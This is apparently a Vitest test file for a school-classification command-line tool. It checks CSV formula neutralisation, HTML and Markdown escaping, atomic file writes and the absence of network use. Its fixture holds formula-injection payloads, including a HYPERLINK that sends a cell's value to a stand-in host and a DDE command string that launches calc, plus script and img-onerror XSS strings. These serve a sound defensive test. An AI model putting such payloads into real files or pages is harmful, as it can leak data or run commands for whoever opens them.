// Safe outputs (issue 7, SPEC section 5): formulas are neutralised in CSV while numbers stay
// numbers, HTML and Markdown escape every value from data and config, an interrupted -o write
// leaves the old file intact, -o never overwrites without --force, and nothing touches the network.
import { describe, expect, it } from 'vitest';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { open } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { ROOT, FIXTURES, runInProcess, runSit } from '../helpers/run-sit.js';
import { toCsv } from '../../src/io/formats/csv.js';

const work = mkdtempSync(join(tmpdir(), 'sit-safe-'));
const AS_OF = ['--as-of', '2026-09-01'];
const HOSTILE =
  'urn,name,phase,trust,ofsted_overall,leadership_capacity,override_tier,override_reason\n' +
  '100001,"=HYPERLINK(""http://x.example/?""&A1)",primary,-12.5,Good,supports-others,,\n' +
  '100002,+SUM(A1:A9),primary,@evil,Good,needs-support,,\n' +
  '100003,-2+3,primary,"\tTabbed",RI,,,\n' +
  '100004,"\rCarriage",primary,"Line\nbreak",Good,,C,"=cmd|\' /C calc\'!A0"\n' +
  '100005,<script>alert(1)</script> | *bold* [x](y) `code`,primary,<b>Trust</b> & Co,Good,supports-others,,\n';
writeFileSync(join(work, 'hostile.csv'), HOSTILE);

describe('CSV is safe in Excel', () => {
  const result = runSit(['classify', 'hostile.csv', '--preset', 'rlt-categories', ...AS_OF, '--format', 'csv'], {
    cwd: work,
  });
  const rows = parse(result.stdout, { columns: true }) as Record<string, string>[];

  it('neutralises every cell that starts with = + - @ tab or CR', () => {
    expect(result.code, result.stderr).toBe(0);
    for (const row of rows)
      for (const value of Object.values(row)) {
        if (/^[=+\-@\t\r]/.test(value))
          expect(Number.isFinite(Number(value)), `unsafe cell ${JSON.stringify(value)}`).toBe(true);
      }
    // Cells are trimmed when read, so a leading tab or CR in the data goes there already.
    expect(rows.map((r) => r.name)).toEqual([
      '\'=HYPERLINK("http://x.example/?"&A1)',
      "'+SUM(A1:A9)",
      "'-2+3",
      'Carriage',
      '<script>alert(1)</script> | *bold* [x](y) `code`',
    ]);
    expect(rows[1].trust).toBe("'@evil");
    expect(rows[3].override).toBe("'=cmd|' /C calc'!A0");
  });

  it('the CSV writer neutralises a leading tab or CR too', () => {
    const csv = toCsv({
      title: 't',
      columns: [
        { key: 'a', header: 'a' },
        { key: 'b', header: 'b' },
      ],
      rows: [
        { a: '\tTabbed', b: '\rCR' },
        { a: -3, b: '-3.5' },
      ],
    });
    expect(parse(csv)).toEqual([
      ['a', 'b'],
      ["'\tTabbed", "'\rCR"],
      ['-3', '-3.5'],
    ]);
  });

  it('keeps a negative number a number', () => {
    expect(rows[0].trust).toBe('-12.5');
  });

  it('quotes a line break inside a value, so the row stays one row', () => {
    expect(rows).toHaveLength(5);
    expect(rows[3].trust).toBe('Line\nbreak');
  });
});

describe('HTML and Markdown escape values from data and config', () => {
  writeFileSync(
    join(work, 'trust.config.yaml'),
    'extends: rlt-categories\nname: "<img src=x onerror=alert(2)> Trust | *policy*"\n',
  );
  it('HTML has no markup from the data or the config', async () => {
    const html = await runInProcess(['classify', 'hostile.csv', ...AS_OF, '--format', 'html'], { cwd: work });
    expect(html.code, html.stderr).toBe(0);
    expect(html.stdout).not.toContain('<script>alert(1)');
    expect(html.stdout).not.toContain('<img src=x');
    expect(html.stdout).not.toContain('<b>Trust</b>');
    expect(html.stdout).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html.stdout).toContain('&lt;img src=x onerror=alert(2)&gt;');
  });
  it('Markdown keeps every value inside its cell and shows markup as text', async () => {
    const md = await runInProcess(['classify', 'hostile.csv', ...AS_OF, '--format', 'md'], { cwd: work });
    expect(md.code, md.stderr).toBe(0);
    expect(md.stdout).not.toContain('<script>');
    expect(md.stdout).not.toContain('<img');
    const header = md.stdout.split('\n').find((l) => l.startsWith('| urn'))!;
    const columns = header.split(/(?<!\\)\|/).length;
    for (const line of md.stdout.split('\n').filter((l) => /^\| 10000\d/.test(l)))
      expect(line.split(/(?<!\\)\|/)).toHaveLength(columns);
    expect(md.stdout).toContain('\\*bold\\*');
  });
});

describe('-o writes atomically and never overwrites without --force', () => {
  it('refuses an existing file without --force and leaves it as it was', async () => {
    writeFileSync(join(work, 'kept.csv'), 'precious\n');
    const result = await runInProcess(
      ['classify', join(FIXTURES, 'schools.csv'), '--preset', 'rlt-categories', ...AS_OF, '-o', 'kept.csv'],
      { cwd: work },
    );
    expect(result.code).toBe(73);
    expect(readFileSync(join(work, 'kept.csv'), 'utf8')).toBe('precious\n');
  });

  it('a run killed mid-write leaves the old file intact and no partial file under its name', async () => {
    // No race: the test-only SIT_TEST_PAUSE_FIFO hook holds the writer just before the rename, its
    // result complete in the temporary file; the test kills it there.
    const dir = mkdtempSync(join(tmpdir(), 'sit-kill-'));
    writeFileSync(join(dir, 'out.csv'), 'the old result\n');
    const pause = join(dir, 'run.pause');
    expect(spawnSync('mkfifo', [pause]).status).toBe(0);
    const [command, argv] =
      process.env.SIT_BIN && !process.env.SIT_BIN.endsWith('.js')
        ? [process.env.SIT_BIN, []]
        : [process.execPath, [join(ROOT, 'bin/sit.js')]];
    const child = spawn(
      command,
      [
        ...argv,
        'classify',
        join(FIXTURES, 'schools.csv'),
        '--preset',
        'rlt-categories',
        ...AS_OF,
        '-o',
        'out.csv',
        '--force',
      ],
      {
        cwd: dir,
        stdio: 'ignore',
        env: { ...process.env, SIT_TEST_PAUSE_FIFO: pause },
      },
    );
    const exited = new Promise<NodeJS.Signals | null>((resolve) =>
      child.on('exit', (_code, signal) => resolve(signal)),
    );
    // Opening the FIFO to write waits until the writer is at the pause.
    const hold = await open(pause, 'w');
    const temp = readdirSync(dir).find((f) => f.startsWith('.sit-') && f.endsWith('.tmp'));
    expect(temp, 'the temporary file is there while the writer is held').toBeDefined();
    expect(readFileSync(join(dir, temp as string), 'utf8')).toContain('100004');
    child.kill('SIGKILL');
    expect(await exited).toBe('SIGKILL');
    await hold.close();
    expect(readFileSync(join(dir, 'out.csv'), 'utf8')).toBe('the old result\n');
    expect(
      readdirSync(dir)
        .filter((f) => !f.startsWith('.'))
        .sort(),
    ).toEqual(['out.csv', 'run.pause']);
  });
});

describe('no code path opens a network connection', () => {
  const preload = join(ROOT, 'test/helpers/no-network.mjs');
  const log = join(work, 'network.log');
  /** The built sit with the preload, without blocking, so the commands run side by side. */
  const run = (args: string[]) =>
    new Promise<{ status: number | null; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, ['--import', preload, join(ROOT, 'bin/sit.js'), ...args], {
        cwd: FIXTURES,
        env: { ...process.env, SIT_NETWORK_LOG: log, NO_COLOR: '1' },
        stdio: ['ignore', 'ignore', 'pipe'],
      });
      let stderr = '';
      child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
      child.on('close', (status) => resolve({ status, stderr }));
    });

  it('the preload does catch a connection (control)', () => {
    const result = spawnSync(
      process.execPath,
      ['--import', preload, '-e', "require('node:net').connect(80, 'example.org')"],
      { env: { ...process.env, SIT_NETWORK_LOG: join(work, 'control.log') }, encoding: 'utf8' },
    );
    expect(result.status).not.toBe(0);
    expect(readFileSync(join(work, 'control.log'), 'utf8')).toContain('net.connect');
  });

  it('every command runs with the network refused and attempts nothing', async () => {
    const out = (name: string) => join(work, name);
    const commands = [
      ['presets'],
      ['validate', 'schools.csv', ...AS_OF],
      ['classify', 'schools.csv', ...AS_OF, '--format', 'json'],
      ['classify', 'schools.csv', ...AS_OF, '-o', out('c.html')],
      ['classify', 'schools.csv', ...AS_OF, '-o', out('c.xlsx')],
      ['explain', '100004', 'schools.csv', ...AS_OF],
      ['budget', 'schools.csv', ...AS_OF, '--format', 'json'],
      ['diff', 'schools.csv', 'schools.csv', ...AS_OF, '--format', 'csv'],
      ['calendar', 'schools.csv', '--year', ...AS_OF, '--format', 'ics'],
      ['report', 'schools.csv', ...AS_OF, '-o', out('r.html')],
      ['wfap', 'new', '--school', '100004', '--data', 'schools.csv', '--yes', ...AS_OF, '-o', out('w.docx')],
      ['wfap', 'deployment', '--school', '100004', '--data', 'schools.csv', '--yes', ...AS_OF, '--format', 'md'],
      ['init', '--preset', 'four-tier', '--config', out('init.yaml')],
    ];
    const results = await Promise.all(commands.map(run));
    for (const [i, result] of results.entries()) {
      expect([0, 2], `${commands[i].join(' ')}: ${result.stderr}`).toContain(result.status);
      expect(result.stderr).not.toContain('network use refused');
    }
    expect(existsSync(log) ? readFileSync(log, 'utf8') : '').toBe('');
  });
});
